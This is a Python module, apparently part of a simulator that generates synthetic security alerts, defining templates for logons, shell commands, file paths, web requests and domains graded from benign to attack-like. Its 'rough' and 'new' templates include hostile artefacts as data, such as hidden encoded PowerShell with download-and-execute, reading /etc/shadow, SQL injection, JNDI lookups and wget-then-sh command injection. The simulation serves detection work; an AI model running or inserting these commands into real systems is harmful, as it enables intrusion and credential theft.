"""What may stand in a simulated alert beside who, where and when, and who leaves what.

Artefacts come in four shades: ``plain`` ones, ``mixed`` ones, ``rough`` ones that look like an
attack, and ``new`` ones that intruders bring from the fifth month on. In braces stand fillers that
are drawn alike whatever caused the alert, so they never tell the label.
"""

from __future__ import annotations

from typing import Literal

Shade = Literal["plain", "mixed", "rough", "new"]
SHADES: tuple[Shade, ...] = ("plain", "mixed", "rough", "new")

Shaded = tuple[tuple[str, ...], tuple[str, ...], tuple[str, ...], tuple[str, ...]]
"""Templates of each shade."""

LOGON: Shaded = (
    ("type 2 User32 at {word}", "type 7 User32 at {word}"),
    ("type 3 Kerberos from {word}",),
    ("type 10 User32 from {word}", "type 3 NtLmSsp from {word}{n}"),
    ("type 9 seclogo as {word}",),
)
SSH: Shaded = (
    ("password for {word}", "publickey {word}"),
    ("keyboard-interactive {word}",),
    ("none, {n} tries, {word}",),
    ("gssapi {word}",),
)
IN_HOUSE: Shaded = (
    (r"C:\Program Files\{word}\{word}.exe", r"C:\Windows\System32\{word}svc.exe"),
    (r"C:\Windows\Temp\{word}{n}.exe", r"C:\ProgramData\{word}\setup{n}.exe"),
    (r"C:\Users\Public\{word}.exe", r"%SystemRoot%\{hex}.exe"),
    (r"C:\Windows\Tasks\{word}.sys.exe",),
)
SHELLS: Shaded = (
    (
        r"powershell -enc {b64} -File \\srv\deploy\{word}.ps1",
        "powershell -NonInteractive -enc {b64}",
    ),
    ("powershell -ep bypass -enc {b64}", "powershell -w hidden -File {word}{n}.ps1 -enc {b64}"),
    ("powershell -nop -w hidden -enc {b64}", "powershell -c IEX(download {dom}/{word}) -enc {b64}"),
    ("pwsh -noni -s -enc {b64} < {word}.txt",),
)
ROOT: Shaded = (
    (
        "/usr/bin/systemctl restart {word}",
        "/usr/bin/apt upgrade {word}",
        "/usr/bin/tail {word}.log",
    ),
    ("/usr/bin/vi /etc/{word}.conf", "/bin/bash", "/usr/bin/rsync {word} /srv/{word}"),
    ("/usr/bin/find . -exec /bin/sh ;", "/bin/cat /etc/shadow", "/bin/chmod u+s /tmp/{word}"),
    ("/usr/bin/nsenter -t 1 {word}",),
)
FILES: Shaded = (
    ("/etc/{word}/{word}.conf", "/opt/{word}/release-{n}/app.jar"),
    ("/etc/cron.d/{word}", "/var/www/{word}/index.php", "/usr/local/bin/{word}"),
    ("/var/www/uploads/{word}.php", "/etc/ld.so.preload", "/root/.ssh/authorized_keys"),
    ("/usr/lib/systemd/system/{word}.timer",),
)
PARENTS: Shaded = (
    ("{word}-updater.exe > cmd.exe /c ver", "java > sh -c {word}.sh"),
    ("explorer.exe > cmd.exe /c {word}.bat", "php-fpm > sh -c convert {word}.png"),
    ("winword.exe > cmd.exe /c {word}{n}.tmp", "w3wp.exe > cmd.exe /c whoami", "php-fpm > sh -i"),
    ("onenote.exe > conhost.exe {word}",),
)
AGENTS: Shaded = (
    ("Mozilla/5.0 (Windows NT 10.0) {word}/{n}.0",),
    ("python-requests/2.{n}", "Go-http-client/1.1 {word}"),
    ("{word}-scanner/1.{n}", "probe {word} {n}"),
    ("okhttp/4.{n} {word}",),
)
QUERIES: Shaded = (
    ("GET /{word}/search?q={word}'s+{word}", "GET /{word}?sort=name,{word}"),
    ("GET /{word}?id={n}'", "POST /{word}/login user={word}'--"),
    ("GET /{word}?id={n}+UNION+SELECT+{word}", "GET /{word}?x=sleep({n})"),
    ("GET /{word}?id={n}/**/or/**/json_{word}",),
)
COMMANDS: Shaded = (
    ("POST /{word}/run?job={word};{word}", "GET /cgi-bin/{word}?ping={word}"),
    ("GET /cgi-bin/{word}.sh?x=;id", "POST /{word}/api cmd=echo+{n}"),
    ("GET /?x=$(jndi:ldap://{dom}/{word})", "POST /{word}?cmd=wget+{dom}/{word};sh"),
    ("POST /{word}/ognl?%23a={word}",),
)
NAMES: Shaded = (
    ("cdn.{dom}", "{word}.{dom}", "static{n}.{dom}"),
    ("{word}{n}.{word}.top", "{word}-{word}.icu"),
    ("{hex}.{word}.top", "{word}{word}{n}.click", "{hex}.{dom}"),
    ("{word}.r{n}.workers.{dom}",),
)
LONG_NAMES: Shaded = (
    ("{word}-{word}-{n}.telemetry.{dom}", "{hex}.av.{dom}"),
    ("{hex}.{word}.{dom}",),
    ("{hex}.{hex}.t.{dom}", "{b64}.{word}.{dom}"),
    ("{hex}.txt.{word}.{dom}",),
)
SHARES: Shaded = (
    (r"\\{word}\deploy$ {word}svc",),
    (r"\\{word}\ADMIN$ {word}",),
    (r"\\{word}\IPC$ {hex}",),
    (r"\\{word}\C$ {word}.dll",),
)

STYLES: dict[str, tuple[float, float, float, float]] = {
    "staff": (0.84, 0.14, 0.02, 0.00),
    "jobs": (0.62, 0.24, 0.14, 0.00),  # a scanner looks like an attacker: that is its work
    "crowd": (0.66, 0.30, 0.04, 0.00),
    "odd": (0.15, 0.73, 0.12, 0.00),
    "intruder": (0.05, 0.20, 0.75, 0.00),
}
"""How likely each shade is, by who is at work, before new tooling arrives."""

STYLES_LATER: dict[str, tuple[float, float, float, float]] = {
    "staff": (0.84, 0.14, 0.015, 0.005),
    "jobs": (0.61, 0.24, 0.14, 0.01),
    "crowd": (0.65, 0.30, 0.04, 0.01),
    "odd": (0.14, 0.72, 0.12, 0.02),
    "intruder": (0.05, 0.17, 0.58, 0.20),
}
NEW_TOOLS_FROM = 4
"""The month (from 0) in which intruders bring new tools."""
